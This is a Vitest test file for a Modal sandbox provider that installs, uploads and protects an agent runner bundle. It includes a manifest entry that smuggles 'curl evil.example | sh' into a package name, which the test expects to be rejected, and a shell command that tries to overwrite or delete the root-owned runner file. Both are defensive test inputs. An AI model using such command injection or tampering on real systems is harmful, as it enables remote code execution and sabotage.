import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { chmod, lstat, mkdir, mkdtemp, readdir, rm, stat, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { createInterface } from "node:readline";
import { fileURLToPath } from "node:url";
import { type MockModel, startMockModel } from "@agent-runtime/mock-model";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createModalSandboxProvider } from "../../src/sandboxes/modal/modal-sandbox-provider.js";
import type { Sandbox } from "../../src/sandboxes/sandbox-provider.js";
import { FakeModal, fakeModalProvider } from "./modal-fake-client.js";

/*
 * The runner reaches a Modal sandbox as the self-contained bundle that
 * `npm run build` makes (packages/runner/dist/bundle): the image installs
 * only the packages its manifest names, at their exact versions, and
 * `create` uploads the bundle itself.
 */
const RUNNER_DIR = "/opt/agent-runtime/runner";
const builtBundle = fileURLToPath(new URL("../../../runner/dist/bundle/", import.meta.url));
const lockfile = fileURLToPath(new URL("../../../../package-lock.json", import.meta.url));

let folder: string;
const code = Buffer.from("console.log('runner');\n");

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "modal-bundle-"));
  await writeFile(join(folder, "runner.mjs"), code);
  await writeFile(
    join(folder, "runner-bundle.json"),
    JSON.stringify({
      entry: "runner.mjs",
      packages: { "opencode-ai": "1.18.33", "@anthropic-ai/claude-agent-sdk": "0.3.330" },
    }),
  );
});

afterAll(async () => {
  if (folder) await rm(folder, { recursive: true, force: true });
});

describe("Modal provider: the runner bundle", () => {
  it("installs the bundle's packages as image layers and uploads the bundle at create", async () => {
    const { modal, provider } = fakeModalProvider({
      runnerBundle: folder,
      image: { dockerfileCommands: ["RUN true"] },
    });
    const sandbox = await provider.create({ name: "s" });

    expect(sandbox.runnerCommand).toEqual(["node", `${RUNNER_DIR}/runner.mjs`]);
    const commands = modal.createRequests[0]!.image.dockerfileCommands;
    expect(commands.slice(4)).toEqual([
      `RUN mkdir -p ${RUNNER_DIR} && printf '{"private":true}\\n' > ${RUNNER_DIR}/package.json`,
      `RUN cd ${RUNNER_DIR} && npm install --omit=dev --no-audit --no-fund --save-exact '@anthropic-ai/claude-agent-sdk@0.3.330' && npm cache clean --force`,
      `RUN cd ${RUNNER_DIR} && npm install --omit=dev --no-audit --no-fund --save-exact 'opencode-ai@1.18.33' && npm cache clean --force`,
      "RUN true",
    ]);
    expect(modal.execCalls).toHaveLength(1);
    const upload = modal.execCalls[0]!;
    expect(upload.argv.slice(0, 2)).toEqual(["sh", "-c"]);
    expect(upload.argv.slice(-2)).toEqual([RUNNER_DIR, "runner.mjs"]);
    expect(Buffer.from(await upload.stdin)).toEqual(code);
  });

  it("by default uses the built bundle, whose packages are the package-lock's versions", async () => {
    const { modal, provider } = fakeModalProvider();
    await provider.create({ name: "s" });
    const lock = JSON.parse(readFileSync(lockfile, "utf8")) as {
      packages: Record<string, { version: string }>;
    };
    const installs = modal.createRequests[0]!.image.dockerfileCommands.filter((c) =>
      c.includes("npm install"),
    );
    expect(installs.map((c) => /'([^']+)'/.exec(c)?.[1])).toEqual(
      [
        "@anthropic-ai/claude-agent-sdk",
        "@google/gemini-cli",
        "@zed-industries/codex-acp",
        "koffi",
        "opencode-ai",
      ].map((name) => `${name}@${lock.packages[`node_modules/${name}`]!.version}`),
    );
    const uploaded = Buffer.from(await modal.execCalls[0]!.stdin);
    const built = readFileSync(join(builtBundle, "runner.mjs"));
    expect(createHash("sha256").update(uploaded).digest("hex")).toBe(
      createHash("sha256").update(built).digest("hex"),
    );
  });

  it("uploads the bundle again into a sandbox it takes over", async () => {
    const { modal, provider } = fakeModalProvider({ runnerBundle: folder });
    await provider.create({ name: "s" });
    const restarted = createModalSandboxProvider({
      tokenId: "ak-test",
      tokenSecret: "as-test",
      runnerBundle: folder,
      createClient: modal.factory,
    });
    await restarted.create({ name: "s" });
    // create and upload; then take over: stop the commands left running (by marker and agent uid), upload again.
    expect(modal.execCalls.map((call) => call.argv.at(-1))).toEqual(["runner.mjs", "1000", "runner.mjs"]);
    expect(modal.execCalls[1]!.argv.at(-2)).toMatch(/^AGENT_RUNTIME_MODAL_SANDBOX=sb-fake-1/);
    expect(Buffer.from(await modal.execCalls[2]!.stdin)).toEqual(code);
  });

  it("fails create, naming the build command, when the bundle is missing or its manifest is invalid", async () => {
    const { modal, provider } = fakeModalProvider({ runnerBundle: join(folder, "missing") });
    await expect(provider.create({ name: "s" })).rejects.toMatchObject({
      code: "SANDBOX_FAILED",
      message: expect.stringContaining("npm run build"),
    });
    expect(modal.createRequests).toEqual([]);

    const invalid = await mkdtemp(join(tmpdir(), "modal-bundle-invalid-"));
    await writeFile(join(invalid, "runner.mjs"), code);
    await writeFile(
      join(invalid, "runner-bundle.json"),
      JSON.stringify({ entry: "runner.mjs", packages: { "koffi; curl evil.example | sh": "2.16.3" } }),
    );
    const other = fakeModalProvider({ runnerBundle: invalid });
    await expect(other.provider.create({ name: "s" })).rejects.toMatchObject({
      code: "SANDBOX_FAILED",
      message: expect.stringContaining("Invalid runner bundle manifest"),
    });
    expect(other.modal.createRequests).toEqual([]);
    await rm(invalid, { recursive: true, force: true });
  });

  it("terminates the sandbox and fails create when the upload fails", async () => {
    const { modal, provider } = fakeModalProvider(
      { runnerBundle: folder },
      { onExec: () => ({ code: 1, stderr: "No space left on device" }) },
    );
    await expect(provider.create({ name: "s" })).rejects.toMatchObject({
      code: "SANDBOX_FAILED",
      message: "Modal upload the runner failed: exit code 1: No space left on device",
    });
    expect(modal.terminateCalls).toEqual(["sb-fake-1"]);
    expect(modal.running.size).toBe(0);
  });
});

/*
 * The upload's shell command on real tools, and the uploaded bundle started
 * by `exec` the way the runtime starts it, inside a fake container whose
 * runner folder holds only what the image would: the manifest's packages
 * (linked from this repository) and the uploaded bundle. Needs root.
 */
const isRoot = process.getuid?.() === 0;
describe.skipIf(!isRoot)("Modal provider: the uploaded runner on real tools (root)", () => {
  let dir: string;
  let model: MockModel;
  let sandbox: Sandbox;

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), "modal-runner-"));
    await chmod(dir, 0o755);
    for (const path of [join(dir, "workspace"), join(dir, "home")]) await mkdir(path);
    await mkdir(RUNNER_DIR, { recursive: true });
    await mkdir("/run/agent-runtime", { recursive: true, mode: 0o700 });
    model = await startMockModel({
      script: {
        rules: [{ name: "hello", match: { prompt: "hello" }, replies: ["Hello from the uploaded runner."] }],
      },
    });
    const modal = new FakeModal({
      runLocally: true,
      containers: {
        dir: join(dir, "containers"),
        folders: [
          { path: join(dir, "workspace"), uid: 1000, mode: 0o755 },
          { path: join(dir, "home"), uid: 1000, mode: 0o755 },
          { path: RUNNER_DIR, uid: 0, mode: 0o755 },
          { path: "/run/agent-runtime", uid: 0, mode: 0o700 },
        ],
      },
    });
    const provider = createModalSandboxProvider({
      tokenId: "ak-test",
      tokenSecret: "as-test",
      workspaceDir: join(dir, "workspace"),
      homeDir: join(dir, "home"),
      createClient: modal.factory,
    });
    sandbox = await provider.create({ name: "runner" });
    // What the image's layers install: the manifest's packages, here linked from this repository.
    const runnerFolder = join(dir, "containers", sandbox.id, "2");
    const manifest = JSON.parse(readFileSync(join(builtBundle, "runner-bundle.json"), "utf8")) as {
      packages: Record<string, string>;
    };
    const modules = fileURLToPath(new URL("../../../../node_modules/", import.meta.url));
    for (const name of Object.keys(manifest.packages)) {
      await mkdir(dirname(join(runnerFolder, "node_modules", name)), { recursive: true });
      await symlink(join(modules, name), join(runnerFolder, "node_modules", name));
    }
  });

  afterAll(async () => {
    await sandbox?.terminate();
    await model?.close();
    if (dir) await rm(dir, { recursive: true, force: true });
    // The shared mount points (/run/agent-runtime, RUNNER_DIR) stay: removing one would detach the bind mounts on it that other suites' sandboxes hold.
  });

  it("uploads the bundle root-owned and read-only: the agent can neither change nor replace it", async () => {
    const uploaded = join(dir, "containers", sandbox.id, "2", "runner.mjs");
    const info = await stat(uploaded);
    expect(info.uid).toBe(0);
    expect(info.mode & 0o777).toBe(0o444);
    expect((await readdir(dirname(uploaded))).filter((name) => name.startsWith(".runner-"))).toEqual([]);
    const child = sandbox.exec([
      "sh",
      "-c",
      `echo evil > ${RUNNER_DIR}/runner.mjs || mv ${RUNNER_DIR}/runner.mjs ${RUNNER_DIR}/gone || rm -f ${RUNNER_DIR}/runner.mjs; echo done`,
    ]);
    child.stdin.end();
    await child.exited;
    expect((await lstat(uploaded)).size).toBe(readFileSync(join(builtBundle, "runner.mjs")).byteLength);
  });

  it("starts the uploaded runner with the sandbox's runner command and runs a real Claude Code turn", async () => {
    const config = `${sandbox.homeDir}/runner-config.json`;
    await sandbox.writeFiles([
      {
        path: config,
        content: JSON.stringify({
          architecture: "claude-agent-sdk",
          workspaceDir: sandbox.workspaceDir,
          watchWorkspace: false,
        }),
      },
    ]);
    const runner = sandbox.exec([...sandbox.runnerCommand, config], {
      env: {
        ANTHROPIC_BASE_URL: model.url,
        ANTHROPIC_API_KEY: "sk-test",
        DISABLE_AUTOUPDATER: "1",
        CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC: "1",
      },
    });
    let stderr = "";
    runner.stderr.on("data", (chunk: Buffer) => {
      stderr += chunk.toString();
    });
    const lines: { type: string; [key: string]: unknown }[] = [];
    const reader = createInterface({ input: runner.stdout });
    const waitFor = (type: string) =>
      new Promise<{ type: string; [key: string]: unknown }>((resolve, reject) => {
        const found = lines.find((line) => line.type === type);
        if (found) return resolve(found);
        const onLine = () => {
          const line = lines.find((l) => l.type === type);
          if (line) {
            reader.off("line", onLine);
            resolve(line);
          }
        };
        reader.on("line", onLine);
        void runner.exited.then(() =>
          reject(new Error(`runner exited before ${type}: ${stderr.slice(-2000)}`)),
        );
      });
    reader.on("line", (text) => lines.push(JSON.parse(text) as { type: string }));

    await waitFor("ready");
    runner.stdin.write(`${JSON.stringify({ type: "message", turnId: "t1", content: "hello" })}\n`);
    expect(await waitFor("turn_end")).toMatchObject({ turnId: "t1", stopReason: "end_turn" });
    const result = lines.filter((line) => line.type === "agent").at(-1)?.message as { result?: string };
    expect(result?.result).toBe("Hello from the uploaded runner.");
    runner.stdin.end(`${JSON.stringify({ type: "shutdown" })}\n`);
    expect((await runner.exited).code).toBe(0);
  });
});
